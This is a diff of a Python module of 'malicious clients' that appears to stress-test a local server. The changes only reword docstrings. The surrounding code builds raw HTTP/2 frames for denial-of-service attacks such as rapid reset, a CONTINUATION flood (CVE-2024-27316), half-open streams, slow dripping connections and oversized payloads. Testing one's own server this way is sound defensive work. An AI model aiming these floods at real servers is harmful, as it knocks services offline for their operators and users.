@@ -1,6 +1,6 @@
-"""Clients that mean harm, for `benchmarks.attacks`: each attacks a server on this machine until it is told to stop.
+"""Malicious clients for `benchmarks.attacks`: each attacks a server on this machine until a given time.
 
-HTTP/2 is written by hand, because no client library sends what is wrong.
+The HTTP/2 frames are built by hand, because no client library sends invalid ones.
 """
 
 from __future__ import annotations
@@ -44,7 +44,7 @@ class Target:
 
     @property
     def is_on(self) -> bool:
-        """Whether the attack goes on."""
+        """Whether the attack continues."""
         return time.monotonic() < self.until
 
     @property
@@ -55,7 +55,7 @@ class Target:
 
 @contextlib.asynccontextmanager
 async def connect(address: str) -> AsyncIterator[tuple[asyncio.StreamReader, asyncio.StreamWriter]]:
-    """Connect to host:port; whatever goes wrong with the connection ends the block quietly."""
+    """Connect to host:port; any connection error ends the block without an exception."""
     host, _, port = address.rpartition(":")
     with contextlib.suppress(OSError, asyncio.IncompleteReadError):
         reader, writer = await asyncio.open_connection(host, int(port))
@@ -66,7 +66,7 @@ async def connect(address: str) -> AsyncIterator[tuple[asyncio.StreamReader, asy
 
 
 async def many(number: int, run: Callable[[], Awaitable[int]]) -> int:
-    """Run something many times at once; return the sum."""
+    """Run `run` several times concurrently; return the sum of the results."""
     return sum(await asyncio.gather(*(run() for _ in range(number))))
 
 
@@ -94,7 +94,7 @@ def posting(body: bytes, *, connections: int = CONNECTIONS, token: bool = False)
 
 
 def dripping(start: bytes, *, drip: bytes = b"", port: str = "http") -> Attack:
-    """Open many connections that begin, and then send a byte or nothing."""
+    """Open many connections that send `start`, and then one byte at a time or nothing."""
 
     async def attack(target: Target) -> int:
         async def one() -> int:
@@ -119,7 +119,7 @@ def dripping(start: bytes, *, drip: bytes = b"", port: str = "http") -> Attack:
 
 
 async def garbage(target: Target) -> int:
-    """Send noise to both ports."""
+    """Send random bytes to both ports."""
 
     async def one() -> int:
         sent = 0
@@ -150,13 +150,13 @@ def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
 
 
 def literal(name: str, value: str) -> bytes:
-    """Return one header, spelt out without an index (RFC 7541, 6.2.2)."""
+    """Return one header as a literal without an index (RFC 7541, 6.2.2)."""
     parts = [part.encode() for part in (name, value)]
     return b"\0" + b"".join(_hpack_length(len(part)) + part for part in parts)
 
 
 def _hpack_length(length: int) -> bytes:
-    """Return a length as a number with a prefix of seven bits (RFC 7541, 5.1)."""
+    """Return a length as an integer with a prefix of seven bits (RFC 7541, 5.1)."""
     if length < SEVEN_BITS:
         return bytes((length,))
     written, length = bytearray((SEVEN_BITS,)), length - SEVEN_BITS
@@ -182,7 +182,7 @@ def call_headers() -> bytes:
 def framing(
     make: Callable[[int], bytes], *, connections: int = CONNECTIONS, most: int = 1 << 30, acknowledges: bool = True
 ) -> Attack:
-    """Write what `make` returns for stream after stream, as fast as the server takes it, and read nothing of use.
+    """Write the frames of `make` for stream after stream, as fast as the server reads them, and discard the answers.
 
     A peer that does not acknowledge the server's SETTINGS is not bound by them.
     """
@@ -192,7 +192,7 @@ def framing(
             sent = 0
             while target.is_on:
                 async with connect(target.grpc) as (reader, writer):
-                    # A window as large as can be, so that the server may say what it likes.
+                    # The largest window, so that flow control does not stop the server's answers.
                     writer.write(PREFACE + frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 2**31 - 1)))
                     if acknowledges:
                         writer.write(frame(SETTINGS, ACK, 0))
@@ -243,12 +243,12 @@ def rapid_reset(stream: int) -> bytes:
 
 
 def half_open(stream: int) -> bytes:
-    """Open a call that never goes on."""
+    """Open a call and never continue it."""
     return frame(HEADERS, END_HEADERS, stream, call_headers())
 
 
 def large_metadata(stream: int, size: int = 1_000_000) -> bytes:
-    """Open a call with so many bytes of metadata that never goes on."""
+    """Open a call with so many bytes of metadata and never continue it."""
     block = call_headers() + literal("x", "y" * size)
     pieces = [block[start : start + PIECE] for start in range(0, len(block), PIECE)]
     kinds = [HEADERS, *[CONTINUATION] * (len(pieces) - 1)]
@@ -257,12 +257,12 @@ def large_metadata(stream: int, size: int = 1_000_000) -> bytes:
 
 
 def pinging(_stream: int) -> bytes:
-    """Ask for a sign of life."""
+    """Send a PING."""
     return frame(PING, 0, 0, bytes(8))
 
 
 def continuing(stream: int) -> bytes:
-    """Begin headers once and never end them (CVE-2024-27316)."""
+    """Begin headers and never end them (CVE-2024-27316)."""
     if stream == 1:
         return frame(HEADERS, 0, 1, call_headers())
     return frame(CONTINUATION, 0, 1, literal("x" * 100, "y" * 100) * 60)
@@ -271,7 +271,7 @@ def continuing(stream: int) -> bytes:
 def calling(
     message: bytes, *, metadata: Mapping[str, str] | None = None, token: bool = True, at_once: int = CONNECTIONS
 ) -> Attack:
-    """Call Reason with bytes of any kind."""
+    """Call Reason with arbitrary bytes."""
 
     async def attack(target: Target) -> int:
         sent = [(name, value) for name, value in (metadata or {}).items()]
@@ -300,7 +300,7 @@ def execute(**params: Any) -> bytes:  # noqa: ANN401 - any JSON
 
 
 def field(number: int, content: bytes) -> bytes:
-    """Return a field of bytes, text or a message, as protobuf writes it."""
+    """Return a protobuf field of bytes, text or a message."""
     size, length = len(content), bytearray()
     while size > SEVEN_BITS:
         length.append(size & SEVEN_BITS | 0x80)
@@ -309,7 +309,7 @@ def field(number: int, content: bytes) -> bytes:
 
 
 def fill_array(unit: bytes, size: int = 8 * MEBI - 2) -> bytes:
-    """Return an array of as many `unit` as `size` bytes hold."""
+    """Return an array of as many `unit` as fit into `size` bytes."""
     return b"[" + b",".join([unit] * (size // (len(unit) + 1))) + b"]"
 
 
@@ -367,5 +367,5 @@ def attacks() -> dict[str, Attack]:
 
 
 def run(name: str, target: Target, seconds: float) -> int:
-    """Attack for so many seconds from now on; return how many tries there were."""
+    """Attack for so many seconds; return the number of attempts."""
     return asyncio.run(attacks()[name](replace(target, until=time.monotonic() + seconds)))
